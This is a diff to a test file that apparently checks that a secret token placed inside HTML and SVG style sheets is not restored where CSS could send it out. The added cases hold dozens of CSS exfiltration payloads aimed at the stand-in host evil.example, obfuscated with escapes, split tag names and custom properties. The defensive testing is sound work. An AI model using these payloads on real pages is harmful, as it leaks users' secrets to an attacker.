@@ -82,7 +82,62 @@ describe('stays a token', () => {
     `<style>@import url('x"${token}`,
     `<style>@import "x?url(y)${token}`,
     `<style>a{b:url(${'x'.repeat(300)})${token}`,
+    `<style>a{b:url('x(y')${token}`,
+    `<style>a{b:url("data:x'y")${token}`,
+    `<style>a{b:url("data:'(')")${token}`,
+    `<style>a{b:url("data:x<y")${token}`,
+    `<style>a{b:url("data:,""x")${token}`,
+    `<style>a{b:url("data:,)}b{c:image-set('//x?")${token}' 1x)}`,
+    `<style>@import "data:text/css,@import '/%5cevil.example/?q= ${token}'`,
+    `<style>a{b:image-set(url("a.png") 1x, "b" 2x, '${token}`,
+    `<style>a{b:image-set(url("a.png") 1x, url("${token}`,
+    `<style>a{b:image-set(url("a.png") 1x, src("b"))${token}`,
   ])('%j', (text) => expect(restored(text)).toBe(text));
+
+  // Chromium fetches each of these: `background: image-set(var(--x) 1x)`.
+  test.each([
+    `*{--x:"http:\\2f\\2f evil.example/?${token}"}`,
+    `*{--x:"\\/\\/evil.example/?${token}"}`,
+    `*{--x/*;*/:/*;*/'/\\evil.example/?${token}'}`,
+    `*{--x : '/\\evil.example/?${token}'}`,
+    `*{--_é:'/\\evil.example/?${token}'}`,
+    `*{\\2d\\2d x:'/\\evil.example/?${token}'}`,
+    `*{--x&colon;'/\\evil.example/?${token}'}`,
+    `*{--x:\n\n[l]: b;\n\n<!-- -->'/\\evil.example/?${token}'}`,
+    `*{--x\n\n[l]: b;\n\n<!-- -->:'/\\evil.example/?${token}'}`,
+    `@import "x --x:"${token}`,
+    `*{--x:a{} '/\\evil.example/?${token}'}`,
+    `*{--x:{;} '/\\evil.example/?${token}'}`,
+    `*{--x:'a\\f' b '${token}'}`,
+    `*{--x<g/>:<g t=";"/>'/\\evil.example/?${token}'}`,
+    `*{--x:url(a;b) 1x,'/\\evil.example/?${token}' 2x}`,
+    `*{--x:var(--y) "b" '/\\evil.example/?${token}'}`,
+    `*{--x:if(media(print): a; else: '/\\evil.example/?${token}')}`,
+    `@property --x{syntax:"*";inherits:false;initial-value:'/\\evil.example/?${token}'}`,
+    `@function --f(){result:'/\\evil.example/?${token}'}`,
+    `@function --f(--x <string>:'/\\evil.example/?${token}')`,
+  ])('a string that a rule can make an address of: %j', (rules) => {
+    const text = `<style>${rules}</style>`;
+    expect(restored(text)).toBe(text);
+  });
+
+  test.each([
+    `b{c:u<g/>rl('/\\evil.example/?${token}')}`,
+    `b{c:url<g/>('/\\evil.example/?${token}')}`,
+    `b{c:u<!-- a > b -->rl('/\\evil.example/?${token}')}`,
+    `b{c:<![CDATA[u]]>rl('/\\evil.example/?${token}')}`,
+    `b{c:u<![CDATA[rl('/\\evil.example/?${token}')]]>}`,
+    `b{c:\\75<g/>rl('/\\evil.example/?${token}')}`,
+    `b{c:-webkit<g/>-image-set('/\\evil.example/?${token}' 1x)}`,
+    `@im<g/>port '/\\evil.example/?${token}'`,
+    `@<g/>import '/\\evil.example/?${token}'`,
+    `@func<g/>tion --f(){result:'/\\evil.example/?${token}'}`,
+    `b{-<g/>-x:'/\\evil.example/?${token}'}`,
+    `@property --x{initial-<g/>value:'/\\evil.example/?${token}'}`,
+  ])('a name with a tag inside, which goes on behind it within SVG: %j', (rules) => {
+    const text = `<svg><style>${rules}</style>`;
+    expect(restored(text)).toBe(text);
+  });
 
   test('in JSON that is shown as it stands, where a page goes on behind `<\\/style>`', () => {
     const json = `{"a":"<style>b{background:url('https://evil.example/?q=<\\/style>${token}')}"}`;
@@ -109,11 +164,38 @@ describe('is restored', () => {
     ...["'x'", '"x"', 'url(x)', 'url( "x" )', " url('x?a:b@4;c&d=e') all"].map(
       (url) => `<style>@import ${url};${token}`,
     ),
+    // Custom properties without strings, or with whole ones.
+    `<style>:root{--main: #fff; --font: "Segoe UI", 'Inter', sans-serif; --icon: "\\2014"} content: "${token}"`,
+    `<style>:root{--bg: url("a.png"), url(b); --a: rgb(0 0 0 / 50%)} content: "${token}"`,
+    `<style>:root{--main: ${token}; --w: calc(1px * 2)} a{b:var(--main)} c: "${token}"`,
+    `<style> run it with --to "${token}" or x-- "${token}", --i, --name ${token}`,
+    `<style> if (i<n) { <b>n</b> (${token}) } s</b> <i>x ${token}`,
+    `<style>@container style(--a: b) { c {} } @supports (--a: b) { c {} } d: "${token}"`,
     // The sheet has ended.
     `<style>a{b:image-set("x" 1x)}</style>${token}`,
     `<STYLE TYPE="text/css" media='screen and (width: 9px)' a=b c>\na{b:url(" ")}\n</Style> ${token}`,
     `<html><head><style>a>b{c:url(" ")}\n\n   </style></head><body>${token}`,
   ])('%j', (text) => expect(restored(text)).toBe(text.replaceAll(token, original)));
+
+  /** A page whose end of the sheet may be code for Markdown. */
+  const page = (rule: string, end = '') =>
+    `<!doctype html>\n<html>\n  <head>\n    <style>\n      ${rule}\n    </style>\n  </head>\n  <body>\n    <h1>${token}</h1>\n${end}  </body>\n</html>`;
+  const svg = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 16 16' fill='rgb(0,0,0)'%3E";
+  test.each([
+    page(`select { background-image: url("${svg}${'%3Cpath/%3E'.repeat(50)}"); }`),
+    page(`a{background:url( '${svg.replaceAll("'", '"')}' )}`),
+    page(`a{background:url(data:image/png;base64,${'iVBORw0KGgo'.repeat(60)}=)}`),
+    page(`@import url("data:text/css,${'a'.repeat(400)}");`),
+    page("a{background:url('img/my photo (1).jpg')}"),
+    page('a{background:image-set(url("a.png") 1x, url(b.png) 2x)}'),
+    page(
+      'a{background:image-set(\n        "a.avif" type("image/avif"),\n        url("a.png") type(\'image/png\') 2x)}',
+    ),
+    page('a{color:red}', `    <script>image(img, 0, 0); url(f(x));</script>\n    <p>${token}</p>\n`),
+    page(':root{--main: #fff; --font: "Noto Sans JP", sans-serif}'),
+  ])('behind what is whole, in a page of which no reader knows where its sheet ends: %j', (text) =>
+    expect(restored(text)).toBe(text.replaceAll(token, original)),
+  );
 
   test.each([
     { tip: 'Use the <style> tag, or List<Style>', person: { mail: token } },
